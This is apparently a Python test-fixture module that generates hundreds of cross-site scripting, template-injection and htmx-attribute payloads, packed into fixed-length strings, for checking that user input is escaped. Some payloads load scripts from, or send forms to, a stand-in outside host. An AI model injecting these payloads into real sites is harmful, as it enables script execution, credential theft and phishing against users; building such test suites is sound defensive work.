"""Texts that try to become markup, script or htmx requests; made from a few parts, all on one line."""

from collections.abc import Sequence
from itertools import product

_LOADED = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("iframe", "src=x", "onload"),
    ("object", "data=x", "onerror"),
    ("marquee", "", "onstart"),
    ("a", "href=x", "onmouseover"),
    ("button", "", "onclick"),
    ("form", "", "onsubmit"),
    ("div", "", "onpointerenter"),
    ("custom-tag", "tabindex=1", "onfocusin"),
)
_SPELLINGS = (
    "<{tag} {extra} {event}=alert(1)>",
    '<{tag} {extra} {event}="alert(1)">',
    "<{tag}/{extra}/{event}='alert(1)'/>",
    "<{upper} {extra} {mixed}=alert`1`>",
    "<{tag} {extra} {event} = alert(1) x",
)
_BREAKERS = (
    "",
    "</textarea>",
    "</title>",
    "</pre>",
    "</code></pre>",
    "</blockquote>",
    "</dd></dl>",
    "</td></tr></table>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    '"/>',
    "'/>",
)
_SCRIPTS = ("<script>alert(1)</script>", "<ScRiPt src=//elsewhere.example/x></sCrIpT>")
_EVENTS = (
    *("onmouseover", "onfocus", "onclick", "onerror", "onload", "onanimationend"),
    *("onpointerdown", "oninput", "onbeforetoggle", "onscroll", "onwheel", "onkeydown"),
)
_QUOTES = ('" {} autofocus x="', "' {} autofocus x='", " {} autofocus ")
_PLACES = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit>",
    "<button formaction='{}'>x</button>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<base href='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<svg><use xlink:href='{}'></use></svg>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:msgbox(1)",
)
_ODD = (
    "<style>@import '//elsewhere.example/x.css'</style>",
    "<b style=position:fixed;inset:0>x</b>",
    "<i style='background:url(//elsewhere.example)'>x</i>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?php echo 1 ?><svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=x:x onerror&equals;alert(1) id=step-panel>",
    "<dialog open>Session over. <form action=//elsewhere.example>",
    "<div id=csrfmiddlewaretoken name=csrfmiddlewaretoken>x</div>",
    "<input name=csrfmiddlewaretoken value=x>",
    "<a id=defaultView><a id=defaultView name=x href=cid:x>",
    "<script type=module>import('//elsewhere.example')</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<isindex action=//elsewhere.example type=image>",
)
#: Harmless in HTML by themselves; a second decoding or another reader makes them work.
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&amp;lt;script&amp;gt;alert(1)",
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{{ run.solution }}{{run.source_version}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "';alert(1)//",
    "\\';alert(1)//",
    "`${alert(1)}`",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://elsewhere.example/x.png)",
    "![x][1] [1]: https://elsewhere.example/x.png",
    "<https://elsewhere.example>",
    "``` </code></pre><script>alert(1)</script> ```",
    "~~~ html <script>alert(1)</script> ~~~",
    "@everyone fixes #1, GH-2, see www.elsewhere.example",
    "| a | b | </details> | <summary>x |",
)


def _loaded() -> list[str]:
    return [
        spelling.format(tag=tag, upper=tag.upper(), extra=extra, event=event, mixed=event.title())
        for (tag, extra, event), spelling in product(_LOADED, _SPELLINGS)
    ]


SCRIPTING: Sequence[str] = (
    *_loaded(),
    *(f"{breaker}{script}" for breaker, script in product(_BREAKERS, _SCRIPTS)),
    *(quote.format(f"{event}=alert(1)") for event, quote in product(_EVENTS, _QUOTES)),
    *(place.format(address) for place, address in product(_PLACES, _ADDRESSES)),
    *_ODD,
)
XSS: Sequence[str] = (*SCRIPTING, *ENCODED, *MARKDOWN)

_REQUESTS = (
    *('hx-get="/x"', 'hx-post="/x"', 'hx-put="/x"', 'hx-patch="/x"', 'hx-delete="/x"'),
    *('data-hx-get="/x"', 'data-hx-post="/x"', 'data-hx-delete="/x"'),
    *('HX-POST="/x"', 'hx-on::load="alert(1)"', 'hx-on:click="alert(1)"'),
    *('data-hx-on:load="alert(1)"', 'hx-on="htmx:load: alert(1)"'),
    *('sse-connect="/x" hx-ext="sse"', 'ws-connect="/x" hx-ext="ws"', 'hx-sse="connect:/x"'),
    *('hx-ws="connect:/x"', 'hx-boost="true" href="/x"', 'hx-swap-oob="true" id="step-panel"'),
    *('hx-get="/x" hx-vals="js:{a:alert(1)}"', 'hx-get="/x" hx-headers="js:{a:1}"'),
    *('hx-get="/x" hx-select-oob="#rail"', 'hx-ext="path-deps"', 'hx-history="false"'),
)
_TRIGGERS = 'hx-trigger="load, every 1s"'
HTMX: Sequence[str] = (
    *(f"<i {request} {_TRIGGERS}>x</i>" for request in _REQUESTS),
    *(f'" {request} {_TRIGGERS} x="' for request in _REQUESTS),
)
ALL: Sequence[str] = (*XSS, *HTMX)


def sheets(length: int) -> list[str]:
    """All payloads, joined to texts of exactly this length."""
    made, line = [], ""
    for payload in ALL:
        if len(line) + len(payload) + 1 > length:
            made.append(line.ljust(length, "."))
            line = ""
        line += f"{payload} "
    return [*made, line.ljust(length, ".")]


def harmless(length: int) -> str:
    """A text of the same length that tries nothing."""
    return ("calm words " * length)[:length]
